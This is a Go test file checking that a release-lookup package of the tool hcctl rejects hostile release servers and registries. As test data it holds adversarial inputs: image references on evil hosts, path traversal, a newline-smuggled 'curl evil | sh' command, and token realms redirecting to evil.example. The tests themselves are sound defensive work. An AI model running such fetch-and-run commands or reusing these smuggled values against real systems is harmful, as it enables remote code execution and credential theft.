package release

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/hcctl/hcctl/pkg/hostedcluster"
	"github.com/hcctl/hcctl/pkg/hostedcluster/options"
)

const (
	releases   = "quay.io/openshift-release-dev/ocp-release"
	goodDigest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
)

// internet is a release server and a registry in one, as both behave: the registry has a token for everybody.
type internet struct {
	// phases are those of releases that are not Accepted, by tag.
	phases map[string]string
	*httptest.Server
	// tags are the releases of stream 4-stable-multi, name and pull spec by turns.
	tags []string
	// digest is what the registry answers, and challenge what it asks for; both have good defaults.
	digest, challenge string
	// asked are the requests, each without its host, and those that came with credentials that are not the anonymous
	// token.
	asked, credentials []string
}

// phase is Accepted unless phases says another.
func (n *internet) phase(tag string) string {
	if phase, given := n.phases[tag]; given {
		return phase
	}
	return "Accepted"
}

func newInternet(t *testing.T, tags ...string) *internet {
	n := &internet{tags: tags, digest: goodDigest}
	n.Server = httptest.NewServer(n)
	n.challenge = fmt.Sprintf(`Bearer realm="%s/v2/auth",service="quay.io",scope="repository:x:pull"`, n.URL)
	t.Cleanup(n.Close)
	return n
}

func (n *internet) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	n.asked = append(n.asked, r.Method+" "+r.URL.Path)
	by := r.Header.Get("Authorization")
	if by != "" && by != "Bearer anonymous" || r.Header.Get("Cookie") != "" {
		n.credentials = append(n.credentials, by)
	}
	switch r.URL.Path {
	case "/api/v1/releasestream/4-stable-multi/tags":
		list := []any{}
		for i := 0; i < len(n.tags); i += 2 {
			list = append(list, map[string]string{"name": n.tags[i], "pullSpec": n.tags[i+1], "phase": n.phase(n.tags[i])})
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"name": "4-stable-multi", "tags": list})
	case "/api/v1/releasestream/4-moved/tags":
		http.Redirect(w, r, "/api/v1/releasestream/4-stable-multi/tags", http.StatusFound)
	case "/api/v1/releasestream/4-broken/tags":
		_, _ = w.Write([]byte("<html>"))
	case "/api/v1/releasestream/4-endless/tags":
		for chunk := []byte(`{"tags":[` + strings.Repeat(" ", 1<<20)); r.Context().Err() == nil; {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	case "/v2/auth":
		if r.URL.Query().Get("scope") != "repository:openshift-release-dev/ocp-release:pull" {
			http.Error(w, "scope", http.StatusBadRequest)
		}
		_, _ = w.Write([]byte(`{"token":"anonymous"}`))
	case "/v2/openshift-release-dev/ocp-release/manifests/4.20.10-multi":
		if by == "" && n.challenge != "" {
			w.Header().Set("WWW-Authenticate", n.challenge)
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		w.Header().Set("Docker-Content-Digest", n.digest)
	default:
		http.NotFound(w, r)
	}
}

func (n *internet) find(t *testing.T, stream string, supported ...string) (Release, error) {
	t.Helper()
	asked, err := options.ParseStream(stream)
	if err != nil {
		return Release{}, err
	}
	return lookup{server: n.URL, registry: n.URL}.ofStream(t.Context(), asked, supported)
}

func TestReleaseStream(t *testing.T) {
	n := newInternet(t, "4.20.10", releases+":4.20.10-multi", "4.20.9", releases+":4.20.9-multi", "4.21.0-rc.1",
		releases+":4.21.0-rc.1-multi",
		"4.20.99 ", "quay.io/x:1", "x4.20.98", "quay.io/x:1", "5.0.0", "quay.io/x:5",
		"4.21.0-0.nightly-multi-2026-01-01-000000", "quay.io/x:n", "4.2.36", "")
	got, err := n.find(t, "4-stable-multi", "4.20", "4.21", "5.0")
	want := Release{releases + "@" + goodDigest, "release stream 4-stable-multi of " + strings.TrimPrefix(n.URL,
		"http://"), "4.20.10"}
	if diff := cmp.Diff(want, got); diff != "" || err != nil {
		t.Errorf("%v %s", err, diff)
	}
	if len(n.credentials) > 0 {
		t.Errorf("credentials were sent: %q", n.credentials)
	}
	// A registry that asks for nothing, and a release server that gives the digest itself.
	n.challenge = ""
	if got, err = n.find(t, "4-stable-multi", "4.20"); err != nil || got.Image != want.Image {
		t.Errorf("%v, %v", got, err)
	}
	n = newInternet(t, "4.20.10-multi", releases+"@"+goodDigest)
	if got, err = n.find(t, "4-stable-multi", "4.20"); err != nil || got.Image != want.Image || len(n.asked) != 1 {
		t.Errorf("%v, %v, %q", got, err, n.asked)
	}
	for stream, want := range map[string]string{"4-stable-multi": "https://multi.ocp", "4-stable": "https://amd64.ocp",
		"4-stable-s390x": "https://s390x.ocp"} {
		if got := streamServer(stream); !strings.HasPrefix(got, want) {
			t.Errorf("%s is asked of %s", stream, got)
		}
	}
}

// TestHostileReleaseServers: what a release server, or who stands in its place, may not do.
func TestHostileReleaseServers(t *testing.T) {
	const newest = "its newest release is 4.20.10, but "
	for image, want := range map[string]string{
		"quay.io/evil/ocp-release:4.20.10-multi":                          "hcctl takes those of " + releases + " alone",
		"registry.evil.example/openshift-release-dev/ocp-release:4.20.10": "alone",
		"quay.io.evil.example/openshift-release-dev/ocp-release:4.20.10":  "alone",
		releases + "-evil:4.20.10":                                        "alone",
		releases + "/evil:4.20.10":                                        "alone",
		releases + "@sha256:abc":                                          "alone",
		releases + "@" + goodDigest + "x":                                 "alone",
		releases:                                                          "alone",
		"":                                                                "alone",
		releases + ":4.20.9-multi":                                        "of another version",
		releases + ":latest":                                              "of another version",
		releases + ":4.20.10-multi@" + goodDigest:                         "of another version",
		releases + ":4.20.10-multi/../../../evil":                         "of another version",
		releases + ":4.20.10\nNext: curl evil | sh":                       "of another version",
		releases +
			":4.20.10-s390x": "the registry answers 404 Not Found; give it with --release-image",
	} {
		n := newInternet(t, "4.20.10", image)
		var flag *options.Error
		if got, err := n.find(t, "4-stable-multi", "4.20"); !errors.As(err, &flag) || !strings.Contains(err.Error(),
			newest) || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, %v", image, got, err)
		}
	}
	for stream, want := range map[string]string{
		"4-unknown": "answers 404 Not Found", "4-broken": "does not answer with a list of releases",
		"4-moved": "it redirects to host", "4-endless": "answers with more than 16 MiB",
		"../../x": "not the name of a stream", "4-stable?x": "not the name", "4-stable/latest": "not the name",
		"4-stable\n": "not the name", "": "not the name",
		"4-stable-multi": "has no release that the HyperShift operator supports (4.20)",
	} {
		n := newInternet(t)
		var flag *options.Error
		if got, err := n.find(t, stream, "4.20"); !errors.As(err, &flag) || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, %v", stream, got, err)
		}
		if strings.Contains(want, "not the name") && len(n.asked) > 0 {
			t.Errorf("%q is asked for: %q", stream, n.asked)
		}
		if stream == "4-moved" && len(n.asked) != 1 {
			t.Errorf("the redirect is followed: %q", n.asked)
		}
	}
}

func TestHostileRegistries(t *testing.T) {
	for what, tc := range map[string]struct{ digest, challenge, want string }{
		"no digest":         {"", "", "the registry does not report it"},
		"another form":      {"sha256:" + strings.Repeat("x", 64), "", "the registry does not report it"},
		"more than one":     {goodDigest + "," + goodDigest, "", "the registry does not report it"},
		"basic credentials": {"", `Basic realm="x"`, "asks for credentials"},
		"another realm": {"", `Bearer realm="https://evil.example/token",service="quay.io"`,
			`refers to another host for a token, "https://evil.example/token"`},
		"a user in it": {"", `Bearer realm="http://127.0.0.1:1@evil.example/token"`, "refers to another host for a token"},
	} {
		n := newInternet(t, "4.20.10", releases+":4.20.10-multi")
		n.digest, n.challenge = tc.digest, tc.challenge
		if got, err := n.find(t, "4-stable-multi", "4.20"); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %v, %v", what, got, err)
		}
	}
}

// Of the release server's releases only accepted ones count; one that has no phase was accepted before there were any.
func TestPhasesOfReleases(t *testing.T) {
	n := newInternet(t, "4.20.10", releases+":4.20.10-multi", "4.20.11", releases+":4.20.11-multi")
	n.phases = map[string]string{"4.20.10": "", "4.20.11": "Rejected"}
	if got, err := n.find(t, "4-stable-multi", "4.20"); err != nil || got.Version != "4.20.10" {
		t.Errorf("%v, %v", got, err)
	}
	// A user in the address of the registry's own tokens is refused.
	n.challenge = strings.Replace(n.challenge, "http://", "http://me@", 1)
	if got, err := n.find(t, "4-stable-multi", "4.20"); err == nil || !strings.Contains(err.Error(), "refers to another host") {
		t.Errorf("%v, %v", got, err)
	}
	n.Close()
	if got, err := n.find(t, "4-stable-multi", "4.20"); err == nil ||
		!strings.Contains(err.Error(), "the release server cannot be asked: ") {
		t.Errorf("%v, %v", got, err)
	}
}

// TestStreamsAreOfTheirVersion: a stream's name says which versions it has.
func TestStreamsAreOfTheirVersion(t *testing.T) {
	for stream, want := range map[string]bool{"4-stable": true, "4.20-stable": true, "4.20.3-x": true, "5-stable": false,
		"4.2-stable": false, "4.20.30-x": false} {
		asked, err := options.ParseStream(stream)
		if err != nil {
			t.Fatal(err)
		}
		if got := beginsWith(hostedcluster.Version{Major: 4, Minor: 20, Patch: 3}, asked.Numbers); got != want {
			t.Errorf("%s: %v", stream, got)
		}
	}
}
